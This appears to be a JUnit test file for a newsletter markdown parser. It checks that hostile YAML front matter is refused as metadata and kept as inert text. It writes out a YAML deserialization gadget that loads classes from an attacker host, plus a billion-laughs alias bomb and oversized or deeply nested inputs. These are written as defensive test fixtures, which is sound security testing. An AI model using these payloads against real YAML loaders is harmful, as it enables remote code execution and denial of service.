package dev.newsletter.parser.markdown;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.newsletter.ParseResult;
import dev.newsletter.Severity;
import dev.newsletter.content.RawBlock;
import java.time.Duration;
import org.junit.jupiter.api.Test;

/**
 * Front matter written to attack the loader is refused with an error diagnostic; it never yields an
 * object, an exception or a hang. (The timeout only guards against a hang; speed is measured
 * elsewhere.)
 */
class HostileFrontMatterTest {

    private static final Duration HANG = Duration.ofSeconds(30);

    @Test
    void aJavaTypeTagIsRefused() {
        String yaml =
                "---\ntitle: x\nengine: !!javax.script.ScriptEngineManager "
                        + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]\n---\n\n"
                        + "Body.\n";

        ParseResult result =
                assertTimeoutPreemptively(HANG, () -> Fixtures.parseText("tag.md", yaml));

        assertRefused(result, 3);
        assertThat(result.issue().introText()).isEqualTo("Body.");
    }

    @Test
    void aBillionLaughsAliasBombIsRefused() {
        StringBuilder yaml =
                new StringBuilder("---\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        char previous = 'a';
        for (char name = 'b'; name <= 'j'; name++) {
            yaml.append(name).append(": &").append(name).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ",").append('*').append(previous);
            }
            yaml.append("]\n");
            previous = name;
        }
        yaml.append("---\n\nBody.\n");

        ParseResult result =
                assertTimeoutPreemptively(
                        HANG, () -> Fixtures.parseText("laughs.md", yaml.toString()));

        assertRefused(result, 0);
    }

    @Test
    void aTenMegabyteScalarIsRefused() {
        String yaml = "---\ntitle: " + "x".repeat(10 * 1024 * 1024) + "\n---\n\nBody.\n";

        ParseResult result =
                assertTimeoutPreemptively(HANG, () -> Fixtures.parseText("big.md", yaml));

        assertRefused(result, 2);
        assertThat(result.issue().title()).isEmpty();
    }

    @Test
    void deepNestingIsRefused() {
        String yaml = "---\nx: " + "[".repeat(5000) + "]".repeat(5000) + "\n---\n\nBody.\n";

        ParseResult result =
                assertTimeoutPreemptively(HANG, () -> Fixtures.parseText("deep.md", yaml));

        assertRefused(result, 0);
    }

    @Test
    void aDocumentThatIsNotAMappingIsRefused() {
        ParseResult result = Fixtures.parseText("list.md", "---\n- a\n- b\n---\n\nBody.\n");

        assertRefused(result, 2);
    }

    @Test
    void duplicateKeysAreRefused() {
        ParseResult result =
                Fixtures.parseText("dup.md", "---\ntitle: a\ntitle: b\n---\n\nBody.\n");

        assertRefused(result, 3);
    }

    @Test
    void aValueOverSeveralLinesIsQuotedOnOneLine() {
        // One line per problem, whatever a quoted value holds; found by MarkdownIssueFuzzTest.
        ParseResult result =
                Fixtures.parseText(
                        "lines.md",
                        "---\ndate: \"17 February\\n- 2022\\r\\nat noon\u2028later\"\n---\n\nBody.\n");

        assertThat(result.diagnostics())
                .singleElement()
                .satisfies(
                        d -> {
                            assertThat(d.line()).isEqualTo(2);
                            assertThat(d.message())
                                    .contains("'17 February - 2022 at noon later'")
                                    .doesNotContain("\n", "\r", "\u2028");
                        });
    }

    /** One error, at the given line when not 0, and metadata left empty. */
    private static void assertRefused(ParseResult result, int line) {
        assertThat(result.diagnostics())
                .singleElement()
                .satisfies(
                        d -> {
                            assertThat(d.severity()).isEqualTo(Severity.ERROR);
                            assertThat(d.message()).contains("front matter");
                            assertThat(d.line()).isPositive();
                            if (line > 0) {
                                assertThat(d.line()).isEqualTo(line);
                            }
                        });
        assertThat(result.issue().metadata().isEmpty()).isTrue();
        assertThat(result.issue().introText()).isEqualTo("Body.");
        // Refused as metadata, kept as inert text: nothing is lost, nothing is run.
        assertThat(result.issue().intro().get(0))
                .isInstanceOfSatisfying(
                        RawBlock.class, raw -> assertThat(raw.content()).startsWith("---\n"));
    }
}
